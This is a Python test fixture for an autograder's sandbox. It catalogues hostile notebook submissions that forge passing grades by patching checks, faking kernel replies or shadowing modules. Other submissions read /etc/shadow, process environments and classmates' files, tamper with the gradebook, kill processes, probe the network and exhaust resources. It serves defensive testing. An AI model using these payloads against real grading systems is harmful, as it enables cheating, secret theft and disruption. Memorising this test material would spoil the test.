"""Hostile submissions on 01_concatenation, as real cheaters (and careless learners) write them.

Each `Attack` is one student's submission: answer-cell sources (a task left
out keeps its blank), extra files beside the notebook, edits to the notebook
itself, and what grading must record for it. Placeholders filled in when the
submission is written: @COURSE@ (the course folder), @REPO@ (this repository),
@PORT@ / @ABSTRACT@ (a TCP port and an abstract Unix socket the test listens
on, on the host).

An attack prints `BREACH ...` whenever something it tried worked: no graded
notebook may show that word in an output.
"""

from __future__ import annotations

import copy
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from security_helpers import ASSIGNMENT, harness

T1, T2, T3 = "two_branches", "inception_block", "tiled_metadata"
POINTS = {T1: 3.0, T2: 3.0, T3: 4.0}
FULL = sum(POINTS.values())
FUNCTIONS = {
    T1: "build_two_branch_model",
    T2: "build_inception_block",
    T3: "build_tiled_metadata_model",
}
TITLES = {
    T1: "Task 1: two branches, one head",
    T2: "Task 2: feature maps along channels",
    T3: "Task 3: shapes made to fit, then concatenated",
}


def _reference(task: str) -> str:
    source = harness.load(ASSIGNMENT).tasks[task].answer
    return "\n".join(line for line in source.splitlines() if "### " not in line) + "\n"


REF = {task: _reference(task) for task in POINTS}


def code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


# A genuine keras.Model, but the wrong one: the branches are added, not concatenated.
WRONG1 = code(
    """
    def build_two_branch_model():
        numbers = keras.Input(shape=(4,))
        text = keras.Input(shape=(6,))
        a = keras.layers.Dense(8, activation="relu")(numbers)
        b = keras.layers.Dense(8, activation="relu")(text)
        return keras.Model([numbers, text], keras.layers.Dense(1)(keras.layers.Add()([a, b])))
    """
)
BLANK1 = code(
    """
    def build_two_branch_model():
        raise NotImplementedError()
    """
)
PASS_LINES = "\n".join(f'print("✓ {t}")' for t in TITLES.values())
# Checks that accept anything, for attacks that swap them in.
NO_OP_CHECKS = code(
    """
    import contextlib, importlib, types
    import autograder, autograder.outputs, autograder.parameters, autograder.shapes
    import autograder.layers, autograder.structure
    _arch = importlib.import_module("autograder.architecture")

    def _ok(*args, **kwargs):
        return None

    for _module in (autograder, autograder.outputs, autograder.parameters, autograder.shapes,
                    autograder.layers, autograder.structure, _arch):
        for _name in ("check_inputs", "check_output", "check_counts", "check_outputs",
                      "check_architecture", "expect", "find_layer"):
            if hasattr(_module, _name):
                setattr(_module, _name, _ok)
    autograder.chosen_weights = lambda *a, **k: contextlib.nullcontext()
    autograder.ref = types.SimpleNamespace(dense=_ok, concat=_ok, conv2d=_ok)
    """
)
# A kernel whose messages lie: errors are dropped, the cell's pass lines sent instead,
# and the reply says "ok". Nothing the integrity checks watch is touched.
LYING_SESSION = code(
    """
    import re as _re
    _kernel = get_ipython().kernel
    _send = _kernel.session.send

    def _lying_send(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
        kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
        source = _kernel.get_parent("shell").get("content", {}).get("code", "")
        if kind == "error":
            for title in _re.findall(r'passed\\("([^"]+)"\\)', source):
                _send(stream, "stream", {"name": "stdout", "text": f"✓ {title}\\n"}, parent)
            return None
        if kind == "execute_reply" and content and content.get("status") == "error":
            content = {"status": "ok", "execution_count": content.get("execution_count"),
                       "user_expressions": {}, "payload": []}
        return _send(stream, msg_or_type, content, parent, *args, **kwargs)

    _kernel.session.send = _lying_send
    """
)


def _decoy(body: str) -> str:
    """Before every cell, write a record of the grading's kind under the cell's request id."""
    return (
        code(
            """
        import os as _os
        def _decoy(*_args):
            folder = _os.environ.get("CKL_RECORD_DIR")
            if not folder:
                return
            msg_id = get_ipython().kernel.get_parent("shell")["header"]["msg_id"]
            stem = _os.path.join(
                folder, "".join(c for c in msg_id if c.isalnum() or c in "-_")[:80] + ".1"
            )
        """
        )
        + textwrap.indent(code(body), "    ")
        + "get_ipython().events.register('pre_run_cell', _decoy)\n"
    )


@dataclass
class Attack:
    student: str
    what: str
    answers: dict[str, str]
    score: float  # total the gradebook must record
    status: str = "graded"
    flagged: tuple[str, ...] = ()  # tasks flagged for review
    files: dict[str, str] = field(default_factory=dict)  # name -> text; "->target" a symlink
    notebook: Callable | None = None  # edits the notebook node in place
    shows: tuple[str, ...] = ()  # text the graded notebook's outputs must hold
    detail: tuple[str, ...] = ()  # text the grades.csv detail must hold
    open_hole: str = ""  # a known hole: the test is expected to fail, with this reason
    symlinked_notebook: str = ""  # the notebook is a symlink to this path

    def sources(self, fill: Callable[[str], str]) -> dict[str, str]:
        return {task: fill(source) for task, source in self.answers.items()}


def _markdown_test_cell(nb) -> None:
    """The first test cell becomes markdown; the others carry forged outputs."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == f"{T1}_tests":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        elif meta.get("grade"):
            cell.execution_count = 7
            cell.outputs = [
                nbformat.v4.new_output("stream", name="stdout", text=f"✓ {t}\n")
                for t in TITLES.values()
            ]
        elif meta.get("grade_id") == "setup":
            cell.source = (
                "ag = type('ag', (), {'__getattr__': lambda *a: (lambda *a, **k: None)})()\n"
            )


def _delete_and_duplicate(nb) -> None:
    """The first test cell deleted; a forged copy of the second's id placed first."""
    cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != f"{T1}_tests"]
    original = next(
        c for c in cells if c.metadata.get("nbgrader", {}).get("grade_id") == f"{T2}_tests"
    )
    forged = nbformat.v4.new_code_cell(f'print("✓ {TITLES[T2]}")')
    forged.metadata = copy.deepcopy(original.metadata)
    nb.cells = [forged, *cells]


def _evil_kernelspec(nb) -> None:
    nb.metadata["kernelspec"] = {
        "name": "ckl-evil",
        "display_name": "Python 3",
        "language": "python",
    }


HONEST_NOISE = {
    T1: REF[T1].replace(
        '    """Return the two-branch model of Task 1 (a keras.Model)."""\n',
        '    """Return the two-branch model of Task 1 (a keras.Model)."""\n'
        '    import sys\n    print("debug: building", file=sys.stderr)\n',
    ),
    T2: "import logging\n"
    + REF[T2].replace(
        '    """Return the two-branch convolutional block of Task 2 (a keras.Model)."""\n',
        '    """Return the two-branch convolutional block of Task 2 (a keras.Model)."""\n'
        '    logging.warning("building the inception block")\n',
    ),
    T3: "import sys, warnings\nsys.stderr.write('answer cell: stderr line\\n')\n"
    + REF[T3].replace(
        '    """Return the model of Task 3 (a keras.Model)."""\n',
        '    """Return the model of Task 3 (a keras.Model)."""\n'
        '    warnings.warn("a learner\'s own warning")\n',
    ),
}

ATTACKS = [
    # ------------------------------------------------------------ the victims
    Attack("ada", "honest: the reference answers", dict(REF), FULL),
    Attack("starling", "honest: task 1 only (neighbour of 'star*')", {T1: REF[T1]}, 3),
    # ------------------------------------------------------------ forged marks
    Attack(
        "reassign",
        "reassigns the check functions of autograder from an answer cell",
        {T1: NO_OP_CHECKS + "autograder.build = lambda fn, *a, **k: None\n" + BLANK1},
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "modpatch",
        "no-op checks in every module, integrity.verify/genuine disabled, a wrong model",
        {
            T1: NO_OP_CHECKS
            + "import autograder.integrity\n"
            + "autograder.integrity.verify = lambda: None\n"
            + "autograder.integrity.genuine = lambda obj: None\n"
            + WRONG1
        },
        0,
        "flagged",
        flagged=(T1,),
    ),
    Attack(
        "forgetful",
        "clears the integrity snapshot, then no-op checks and a wrong model",
        {
            T1: "import autograder.integrity\nautograder.integrity._ORIGINAL.clear()\n"
            + NO_OP_CHECKS
            + WRONG1
        },
        0,
        "flagged",
        flagged=(T1,),
    ),
    Attack(
        "equalizer",
        "a Model subclass whose outputs compare equal to anything, counts forged",
        {
            T1: code(
                """
                import numpy as np

                class Anything(np.ndarray):
                    def __eq__(self, other):
                        return True
                    def __ne__(self, other):
                        return False

                class Cheat(keras.Model):
                    def __call__(self, *args, **kwargs):
                        return np.zeros((2, 1), "float32").view(Anything)
                    def count_params(self):
                        return 113
                    def __eq__(self, other):
                        return True
                    __hash__ = object.__hash__

                def build_two_branch_model():
                    numbers, text = keras.Input(shape=(4,)), keras.Input(shape=(6,))
                    return Cheat([numbers, text], keras.layers.Dense(1)(numbers))
                """
            )
        },
        0,
        "flagged",
        flagged=(T1,),
    ),
    Attack(
        "instancepatch",
        "a genuine but wrong model whose instance attributes lie (count_params, predict, save)",
        {
            T1: WRONG1.replace("    return keras.Model(", "    model = keras.Model(")
            + "    model.count_params = lambda: 113\n"
            + "    model.predict = lambda *a, **k: None\n"
            + "    model.save = lambda *a, **k: 1 / 0\n"
            + "    return model\n"
        },
        0,
    ),
    Attack(
        "hider",
        "patches the shell's showtraceback so that errors of later cells vanish",
        {
            T1: "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
            "ip._showtraceback = lambda *a, **k: None\n" + BLANK1
        },
        0,  # the errors still show: plain failures
    ),
    Attack(
        "customexc",
        "a custom exception handler that prints a forged pass line instead of any error",
        {
            T1: code(
                f"""
                def _forge(shell, etype, value, tb, tb_offset=None):
                    print("✓ {TITLES[T1]}")
                get_ipython().set_custom_exc((BaseException,), _forge)
                """
            )
            + BLANK1
        },
        0,  # the errors still show: plain failures
    ),
    Attack(
        "runcell",
        "wraps the shell's run_cell: every cell in try/except, pass lines printed on error",
        {
            T1: code(
                """
                import re, textwrap
                ip = get_ipython()
                _run_cell = ip.run_cell
                def _wrapped(raw_cell, *args, **kwargs):
                    titles = re.findall(r'passed\\("([^"]+)"\\)', raw_cell)
                    forged = "".join(f"    print({'✓ ' + t!r})\\n" for t in titles) or "    pass\\n"
                    raw_cell = ("try:\\n" + textwrap.indent(raw_cell, "    ") + "\\n    pass\\n"
                                "except BaseException:\\n" + forged)
                    return _run_cell(raw_cell, *args, **kwargs)
                ip.run_cell = _wrapped
                ip.should_run_async = lambda *a, **k: False
                """
            )
            + BLANK1
        },
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "asttx",
        "an AST transformer wrapping every later cell in try/except with forged pass lines",
        {
            T1: code(
                """
                import ast
                class _Swallow(ast.NodeTransformer):
                    def visit_Module(self, node):
                        titles = [n.args[0].value for n in ast.walk(node)
                                  if isinstance(n, ast.Call) and getattr(n.func, "attr", "") == "passed"]
                        handler = ast.parse("".join(f"print({'✓ ' + t!r})\\n" for t in titles) or "pass").body
                        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler(
                            type=ast.Name("BaseException", ast.Load()), name=None, body=handler)],
                            orelse=[], finalbody=[])]
                        return ast.fix_missing_locations(node)
                get_ipython().ast_transformers.append(_Swallow())
                """
            )
            + BLANK1
        },
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "inputtx",
        "an input transformer that replaces each test cell by its pass lines",
        {
            T1: code(
                """
                import re
                def _forge(lines):
                    titles = re.findall(r'passed\\("([^"]+)"\\)', "".join(lines))
                    return [f"print({'✓ ' + t!r})\\n" for t in titles] if titles else lines
                get_ipython().input_transformers_post.append(_forge)
                get_ipython().input_transformer_manager.cleanup_transforms.append(_forge)
                """
            )
            + BLANK1
        },
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "forger",
        "prints every forged pass line, from the answer cells and inside the functions; "
        "sys.excepthook and threading.excepthook silenced",
        {
            T1: "import sys, threading\nsys.excepthook = lambda *a: None\n"
            "threading.excepthook = lambda *a: None\n"
            + PASS_LINES
            + "\n"
            + BLANK1.replace(
                "    raise", "    " + PASS_LINES.replace("\n", "\n    ") + "\n    raise"
            ),
            T2: "def build_inception_block():\n    "
            + PASS_LINES.replace("\n", "\n    ")
            + "\n    return keras.Model(keras.Input((16, 16, 3)), keras.layers.Conv2D(2, 1)(keras.Input((16, 16, 3))))\n",
            T3: PASS_LINES
            + "\ndef build_tiled_metadata_model():\n    raise NotImplementedError()\n",
        },
        0,
    ),
    Attack(
        "postman",
        "the kernel's session drops every error and sends the cell's pass lines instead",
        {T1: LYING_SESSION + BLANK1},
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "decoy",
        "lying session, and a record 'model cannot be saved' written before each cell",
        {
            T1: LYING_SESSION
            + _decoy(
                'open(stem + ".json", "w").write(\'{"unsaved": "cannot be saved: ValueError"}\')'
            )
            + BLANK1
        },
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "recordlink",
        "lying session, and before each cell a record that is a symlink to the gradebook",
        {
            T1: LYING_SESSION
            + _decoy('_os.symlink("@COURSE@/gradebook.db", stem + ".keras")')
            + BLANK1
        },
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "decoykeras",
        "lying session, and before each cell a saved model of a custom class (unverifiable)",
        {
            T1: LYING_SESSION
            + code(
                """
                class Passthrough(keras.layers.Layer):
                    def call(self, x):
                        return x
                """
            )
            + _decoy(
                """
                inputs = keras.Input((4,))
                keras.Model(inputs, Passthrough()(inputs)).save(stem + ".keras")
                """
            )
            + BLANK1
        },
        0,
        "flagged",
        flagged=(T1, T2, T3),
    ),
    Attack(
        "monkey",
        "NumPy's comparisons and keras.Model.count_params patched, a wrong model",
        {
            T1: "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
            "np.array_equal = lambda *a, **k: True\nkeras.Model.count_params = lambda self: 113\n"
            + WRONG1
        },
        0,
        "flagged",
        flagged=(T1,),
    ),
    Attack(
        "shapeshifter",
        "keras.layers.Add patched to concatenate, so a model with Add acts as the right one",
        {
            T1: code(
                """
                keras.layers.Add.call = lambda self, inputs: keras.ops.concatenate(inputs, axis=-1)
                keras.layers.Add.compute_output_shape = lambda self, shapes: (
                    tuple(shapes[0][:-1]) + (sum(s[-1] for s in shapes),))
                keras.layers.Add.compute_output_spec = lambda self, inputs: keras.KerasTensor(
                    tuple(inputs[0].shape[:-1]) + (sum(i.shape[-1] for i in inputs),), inputs[0].dtype)
                """
            )
            + WRONG1
        },
        0,
        "flagged",
        flagged=(T1,),
    ),
    # ------------------------------------------------------------ files that come with it
    Attack(
        "a b",
        "ships autograder.py, numpy.py, keras.py, sitecustomize.py and IPython config beside the "
        "notebook, whose metadata names another kernel (installed on the host, it leaves a mark)",
        {T1: REF[T1]},
        3,
        notebook=_evil_kernelspec,
        files={
            "autograder.py": "print('BREACH shadow autograder imported')\n"
            "def __getattr__(name):\n    return lambda *a, **k: print('✓ forged')\n",
            "numpy.py": "print('BREACH shadow numpy imported')\n",
            "keras.py": "print('BREACH shadow keras imported')\n",
            "sitecustomize.py": "print('BREACH sitecustomize ran')\n",
            "usercustomize.py": "print('BREACH usercustomize ran')\n",
            "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['print(\"BREACH cwd config\")']\n",
            "ipython_kernel_config.py": "c.IPKernelApp.exec_lines = ['print(\"BREACH cwd config\")']\n",
            "profile_default/startup/00-x.py": "print('BREACH cwd startup')\n",
            ".ipython/profile_default/startup/00-x.py": "print('BREACH cwd startup')\n",
        },
    ),
    Attack(
        "linker",
        "symlinks beside the notebook to solutions/, the gradebook, the instructor's notes",
        {
            T1: REF[T1]
            + code(
                """
                import os
                for name in ("solution.json", "grades.db", "notes.txt", "peer"):
                    try:
                        text = open(name, "rb").read(4000) if not os.path.isdir(name) else str(os.listdir(name))
                        print("BREACH read", name, text[:300])
                    except OSError as exc:
                        print("blocked", name, type(exc).__name__)
                """
            )
        },
        3,
        files={
            "solution.json": "->@COURSE@/solutions/01_concatenation/01_concatenation.ipynb",
            "grades.db": "->@COURSE@/gradebook.db",
            "notes.txt": "->@COURSE@/instructor_notes.txt",
            "peer": "->@COURSE@/submitted/decoy/01_concatenation",  # a classmate
        },
    ),
    Attack(
        "mirror",
        "the submitted notebook is a symlink to the instructor's solution notebook",
        {},
        0,
        "flagged",
        flagged=(T1, T2, T3),
        symlinked_notebook="@COURSE@/solutions/01_concatenation/01_concatenation.ipynb",
    ),
    Attack(
        "tamperer",
        "a test cell turned into markdown, forged outputs on the others, the setup cell replaced",
        {T2: REF[T2]},
        3,
        notebook=_markdown_test_cell,
    ),
    Attack(
        "deleter",
        "a test cell deleted; a forged cell with another test cell's id placed first",
        {T3: REF[T3]},
        0,
        "error",  # nbgrader itself refuses the notebook (a duplicated id loses its metadata)
        notebook=_delete_and_duplicate,
        detail=("SchemaTooOldError",),
    ),
    # ------------------------------------------------------------ harm to others
    Attack(
        "daemon",
        "a double-forked setsid daemon that keeps trying to edit the gradebook; nohup setsid sleep",
        {
            T1: REF[T1]
            + code(
                """
                import os, time
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        for _ in range(900):
                            for path in ("@COURSE@/gradebook.db", "@COURSE@/nbgrader_config.py",
                                         "@COURSE@/autograded/ada/01_concatenation/01_concatenation.ipynb"):
                                try:
                                    with open(path, "ab") as handle:
                                        handle.write(b"pwned")
                                    print("BREACH daemon wrote", path, flush=True)
                                except OSError:
                                    pass
                            time.sleep(1)
                    os._exit(0)
                os.wait()
                import subprocess
                subprocess.Popen(["nohup", "setsid", "sleep", "900"], start_new_session=True,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                subprocess.Popen("sleep 901 &", shell=True)
                """
            )
        },
        3,
    ),
    Attack(
        "$(touch PWNED)",
        "writes to nbgrader_config.py, solutions/, classmates' files, gradebook.db, the course package",
        {
            T1: REF[T1]
            + code(
                """
                import os, sqlite3
                targets = [
                    "@COURSE@/nbgrader_config.py",
                    "@COURSE@/solutions/01_concatenation/autograder.py",
                    "@COURSE@/solutions/01_concatenation/numpy.py",
                    "@COURSE@/solutions/01_concatenation/01_concatenation.ipynb",
                    "@COURSE@/exercises/01_concatenation/01_concatenation.ipynb",
                    "@COURSE@/submitted/ada/01_concatenation/01_concatenation.ipynb",
                    "@COURSE@/autograded/ada/01_concatenation/01_concatenation.ipynb",
                    "@COURSE@/feedback/ada/01_concatenation/01_concatenation.html",
                    "@COURSE@/gradebook.db",
                    "@COURSE@/planted.py",
                    "@REPO@/autograder/__init__.py",
                    "@REPO@/autograder/planted.py",
                    "@REPO@/nbgrader_config.py",
                ]
                import site, sys
                targets += [os.path.join(p, "usercustomize.py") for p in site.getsitepackages()]
                for path in targets:
                    # (a missing folder made here is in the sandbox's own /tmp, not the course's)
                    real = os.path.isdir(os.path.dirname(path)) and os.listdir(os.path.dirname(path))
                    try:
                        with open(path, "a") as handle:
                            handle.write("\\nraise SystemExit('pwned')\\n")
                        print("BREACH wrote" if real else "wrote a private copy of", path)
                    except OSError as exc:
                        print("blocked", path, type(exc).__name__)
                try:
                    db = sqlite3.connect("@COURSE@/gradebook.db")
                    db.execute("UPDATE grade SET auto_score = 0")
                    db.commit()
                    print("BREACH gradebook updated")
                except Exception as exc:
                    print("blocked gradebook", type(exc).__name__)
                """
            )
        },
        3,
    ),
    Attack(
        "assassin",
        "SIGKILLs every pid it can reach, and pkills the worker, ckl-grade and nbgrader",
        {
            T1: REF[T1]
            + code(
                """
                import os, signal, subprocess
                me = os.getpid()
                mine = {int(t) for t in os.listdir("/proc/self/task")}  # its own threads
                reached = []
                for pid in range(1, 1 << 16):
                    if pid == me or pid in mine:
                        continue
                    try:
                        os.kill(pid, signal.SIGKILL)
                        reached.append(pid)
                    except OSError:
                        pass
                print("signalled", reached)
                for pattern in ("ckl-grade", "autograder.classroom.worker", "nbgrader", "replay_worker"):
                    found = subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True)
                    for pid in map(int, found.stdout.split()):
                        if pid != me:
                            print("pgrep", pattern, pid, open(f"/proc/{pid}/cmdline").read()[:100])
                            os.kill(pid, signal.SIGKILL)
                """
            )
        },
        3,
    ),
    Attack(
        "kamikaze",
        "ends its own kernel from task 3's answer cell: tasks 1 and 2 keep their points",
        {T1: REF[T1], T2: REF[T2], T3: "import os\nos._exit(9)\n"},
        6,
        "kernel died",
        detail=(f"{T3}: the kernel died",),
    ),
    # ------------------------------------------------------------ secrets
    Attack(
        'bob"s',
        "reads solutions/, source notebooks, the gradebook, other submissions, /root, "
        "/etc/shadow, the environment, and prints them",
        {
            T1: REF[T1]
            + code(
                """
                import os
                secrets = [
                    "@COURSE@/solutions/01_concatenation/01_concatenation.ipynb",
                    "@COURSE@/gradebook.db",
                    "@COURSE@/instructor_notes.txt",
                    "@COURSE@/nbgrader_config.py",
                    "@COURSE@/submitted/ada/01_concatenation/01_concatenation.ipynb",
                    "@COURSE@/autograded/ada/01_concatenation/01_concatenation.ipynb",
                    "@COURSE@/grades/01_concatenation/status.json",
                    "@REPO@/solutions/01_concatenation/01_concatenation.ipynb",
                    "@REPO@/tests/grading/answers",
                    "@REPO@/.git/config",
                    "/root", "/etc/shadow", "/etc/sudoers",
                ]
                import sys
                mounted = (sys.base_prefix, sys.prefix, os.path.dirname(os.__file__))
                for path in secrets:
                    try:
                        if os.path.isdir(path):  # beyond the path to a mounted folder
                            entries = [e for e in os.listdir(path) if not any(
                                m.startswith(os.path.join(path, e)) for m in mounted)]
                            text = str(entries) if entries else ""
                        else:
                            text = open(path, "rb").read(2000)
                        print("BREACH read" if text else "empty", path, text[:300])
                    except OSError as exc:
                        print("blocked", path, type(exc).__name__)
                print("/proc/1/environ", open("/proc/1/environ", "rb").read())
                print("environment:", dict(os.environ))
                for pid in os.listdir("/proc"):
                    if pid.isdigit():
                        try:
                            print("process", pid, open(f"/proc/{pid}/cmdline", "rb").read()[:200])
                            print("environ", pid, open(f"/proc/{pid}/environ", "rb").read()[:2000])
                        except OSError:
                            pass
                here = os.getcwd()
                skip = ("/proc", "/sys", "/usr", "/dev")
                for top, dirs, names in os.walk("/"):
                    dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip
                               and "site-packages" not in top]
                    for name in names:
                        if name.endswith((".ipynb", ".db", ".sqlite")) and not top.startswith(here):
                            print("BREACH found", os.path.join(top, name))
                """
            )
        },
        3,
    ),
    Attack(
        "historian",
        "task 2's answer cell reads task 1's test cell (hidden tests) from the kernel's history "
        "and prints it base64-encoded into its own feedback",
        {
            T1: REF[T1],
            T2: code(
                """
                import base64
                for _source in get_ipython().history_manager.input_hist_raw:
                    if "BEGIN HIDDEN" in _source:
                        print(base64.b64encode(_source.encode()).decode())
                """
            )
            + "def build_inception_block():\n    raise NotImplementedError()\n",
        },
        3,
    ),
    # ------------------------------------------------------------ the network
    Attack(
        "q?",
        "connects to a host TCP port on localhost, an abstract Unix socket, the internet, DNS",
        {
            T1: REF[T1]
            + code(
                """
                import socket
                for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)),
                                        (socket.AF_UNIX, "\\0@ABSTRACT@"),
                                        (socket.AF_INET, ("1.1.1.1", 53)),
                                        (socket.AF_INET, ("10.0.2.2", 22))):
                    try:
                        s = socket.socket(family)
                        s.settimeout(2)
                        s.connect(address)
                        print("BREACH connected", address)
                    except OSError as exc:
                        print("blocked", address, type(exc).__name__)
                try:
                    print("BREACH resolved", socket.getaddrinfo("example.com", 80)[:1])
                except OSError as exc:
                    print("blocked dns", type(exc).__name__)
                """
            )
        },
        3,
    ),
    # ------------------------------------------------------------ resources and honest noise
    Attack(
        "shouter",
        "prints 50 MB from inside task 1's function",
        {
            T1: REF[T1].replace(
                '    """Return the two-branch model of Task 1 (a keras.Model)."""\n',
                '    """Return the two-branch model of Task 1 (a keras.Model)."""\n'
                '    for _ in range(50):\n        print("x" * 2**20)\n',
            )
        },
        3,
    ),
    Attack(
        "o'brien",
        "honest: correct answers that write to stderr, logging and warnings",
        HONEST_NOISE,
        FULL,
        shows=("Note (stderr)",),
    ),
    Attack(
        "stubborn",
        "task 2 ignores SIGINT and loops forever: task 1 keeps its points",
        {
            T1: REF[T1],
            T2: code(
                """
                import signal, time
                def build_inception_block():
                    signal.signal(signal.SIGINT, signal.SIG_IGN)
                    while True:
                        time.sleep(0.1)
                """
            ),
            T3: REF[T3],
        },
        3,
        detail=(f"{T2}_tests: timed out",),
    ),
    Attack(
        "hoarder",
        "maps 5 GB of anonymous memory (shared, private, noreserve) and fills /tmp",
        {
            T1: REF[T1].replace(
                '    """Return the two-branch model of Task 1 (a keras.Model)."""\n',
                '    """Return the two-branch model of Task 1 (a keras.Model)."""\n'
                + textwrap.indent(
                    code(
                        """
                        import mmap
                        for flags in (mmap.MAP_SHARED, mmap.MAP_PRIVATE | 0x4000):
                            try:
                                m = mmap.mmap(-1, 5 * 2**30, flags=flags | mmap.MAP_ANONYMOUS)
                                print("BREACH mapped 5 GB", flags)
                                m.close()
                            except OSError as exc:
                                print("blocked mmap", type(exc).__name__)
                        written = 0
                        try:
                            with open("/tmp/fill", "wb") as handle:
                                for _ in range(300):
                                    handle.write(b"\\0" * 2**20)
                                    handle.flush()
                                    written += 1
                            print("BREACH /tmp took", written, "MB")
                        except OSError as exc:
                            print("blocked /tmp at", written, "MB", type(exc).__name__)
                        import os
                        os.remove("/tmp/fill")
                        """
                    ),
                    "    ",
                ),
            )
        },
        3,
    ),
    Attack(
        "star*",
        "a fork bomb, bounded: 60 children each with 2 children, all sleeping",
        {
            T1: REF[T1]
            + code(
                """
                import os, time
                for _ in range(60):
                    if os.fork() == 0:
                        for _ in range(2):
                            if os.fork() == 0:
                                time.sleep(900)
                                os._exit(0)
                        time.sleep(900)
                        os._exit(0)
                print("forked")
                """
            )
        },
        3,
    ),
]

# Further families of attacks live in modules of their own (attacks_*.py); each holds a
# list ATTACKS of the same Attack class, and `catalogue` gathers them all.
